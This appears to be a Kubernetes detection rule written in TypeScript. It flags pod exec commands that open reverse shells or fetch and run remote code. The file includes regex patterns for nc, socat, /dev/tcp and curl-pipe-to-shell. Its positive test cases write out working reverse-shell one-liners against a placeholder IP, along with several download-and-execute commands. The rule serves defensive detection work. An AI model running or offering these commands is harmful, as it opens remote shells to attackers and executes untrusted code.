import { runsInPod } from '../carve-outs.ts'
import { nearMiss, positive } from '../cases.ts'
import { detection } from '../detection.ts'
import { all, any, matches } from '../predicate.ts'
import { execEvent } from '../samples.ts'
import { tables } from '../tables.ts'
import { onMatch } from '../triggers.ts'

const shell = (line: string) => execEvent(['sh', '-c', line])
const python = 'import socket,os;s=socket.create_connection(("198.51.100.7",4444));os.dup2(s,0)'

export const k8sExecReverseShell = detection({
  id: 'k8s.exec.reverse-shell',
  title: 'A command in a pod looked like a shell to the outside or a download that is run',
  severity: 'high',
  tier: 'core',
  mitre: {
    tactics: ['Execution', 'Command and Control'],
    techniques: ['T1059.004', 'T1105'],
  },
  plane: 'kube-audit',
  tables: tables.audit,
  predicate: all(
    runsInPod,
    any(
      // A shell that is tied to a connection.
      matches(
        'execCommand',
        /\/dev\/(tcp|udp)\/|\bmkfifo\b|0[<>]&\d|\b(ba|z|da|k|a)?sh\s+-i\s*\d?[<>|&]/,
      ),
      // Programs that tie one.
      matches(
        'execCommand',
        /\b(nc|ncat|netcat)(\.\w+)?\s[^|;&]*(-\w*e\b|-\w*c\s+\S*sh\b|--(sh-|lua-)?exec\b)|\bsocat\b.*\b(exec|system|pty)\b/,
      ),
      // Languages that do.
      matches(
        'execCommand',
        /\bpty\.spawn|\bimport\s[\w\s,]*\bsocket\b[\s\S]*(dup2|subprocess|\/(ba|da|z|a)?sh\b)|\bsubprocess\b[\s\S]*\bsocket\.socket|fsockopen|IO::Socket|\buse\s+Socket\b|TCPSocket|\/inet\/tcp\//,
      ),
      // What was fetched, or unpacked from the command, is run.
      matches(
        'execCommand',
        /(\b(curl|wget)\s[^|;]*|\bbase64\s+(-d|-D|--decode)\b[^|;]*)\|\s*(sudo\s+)?(\/\S*\/)?((ba|z|da|k|a)?sh\b|(python[\d.]*|perl)(\s+-)?\s*($|[;&"']))/,
      ),
      matches(
        'execCommand',
        /\b(ba|z|da|k|a)?sh\s+(-c\s+\S?\$\(|<\()\s*(curl|wget)\b|\b(curl|wget)\s[\s\S]*\bchmod\s+(\S*\+x|0?[1357]\d\d)\b/,
      ),
    ),
  ),
  trigger: onMatch(),
  groupBy: ['cluster', 'user.username', 'objectRef.namespace'],
  why: 'These lines are how an intruder turns one command into a session of his own, or brings his tools. Operators who debug do not need them.',
  respond:
    'Cut the pod off with a network policy that denies its egress, keep it for a look, and note the address in the command: search the flow logs for it. Then disable the identity that ran the command, and rotate what the pod could read.',
  carveOuts: [
    'Nobody by name: the command decides, and attempts that were refused count too.',
    'In a shell that is opened without a command nothing of what is typed is recorded.',
  ],
  peers: {
    elastic: [
      'Kubernetes Pod Exec Potential Reverse Shell',
      'Kubernetes Pod Exec with Curl or Wget to HTTPS',
    ],
    sigma: ['597a7e84-187d-458b-9e4f-2f5a0e676711'],
  },
  cases: [
    positive('bash', execEvent(['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'])),
    positive(
      'a pipe with a name',
      shell('mkfifo /dev/shm/f; nc 198.51.100.7 4444 </dev/shm/f | sh >/dev/shm/f'),
    ),
    positive(
      'a shell that is told to be interactive',
      shell('cat p | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 >p'),
    ),
    positive('netcat', execEvent(['nc', '198.51.100.7', '4444', '-e', '/bin/sh'])),
    positive('netcat with its flags in one', execEvent(['/usr/bin/ncat', '-lvnpe', '/bin/sh'])),
    positive('socat', execEvent(['socat', 'TCP:198.51.100.7:4444', 'EXEC:/bin/sh'])),
    positive('Python', execEvent(['python3', '-c', python])),
    positive('Perl', execEvent(['perl', '-e', 'use Socket; socket(S, PF_INET, SOCK_STREAM, 6)'])),
    positive('a script that is fetched and run', shell('curl -fsSL https://example.com/x | bash')),
    positive('by Python', shell('curl -s https://example.com/x | python3 -')),
    positive('by the path of the shell', shell('wget -qO- https://example.com/x | /bin/sh -s')),
    positive(
      'in the other order',
      execEvent(['bash', '-c', 'bash <(curl -s https://example.com/x)']),
    ),
    positive(
      'a program that is fetched',
      shell('curl -o /dev/shm/a https://example.com/a && chmod 755 /dev/shm/a && /dev/shm/a'),
    ),
    positive('a script in the command itself', shell('echo aWQ= | base64 -d | sh')),
    positive(
      'an attempt that was refused',
      execEvent(['nc', '-e', 'sh', '198.51.100.7', '4444'], { code: 403 }),
    ),
    nearMiss('an interactive shell', execEvent(['bash', '-i'])),
    nearMiss('a check of health', execEvent(['curl', '-fsS', 'http://localhost:8080/healthz'])),
    nearMiss('a check of a port', execEvent(['nc', '-zv', 'db', '5432'])),
    nearMiss('a check of a port and a word', shell('nc -z db 5432 && echo -e done')),
    nearMiss(
      'a check of a port by Python',
      execEvent(['python3', '-c', 'import socket; socket.create_connection(("db", 5432))']),
    ),
    nearMiss('a download and its sum', shell('curl -s https://example.com/x | sha256sum')),
    nearMiss('an answer as JSON', shell('curl -s http://localhost:8080/stats | jq .')),
    nearMiss(
      'an answer that Python prints',
      shell('curl -s http://localhost:8080/stats | python3 -m json.tool'),
    ),
    nearMiss('errors to nowhere', shell('ls /data 2>&1')),
  ],
})
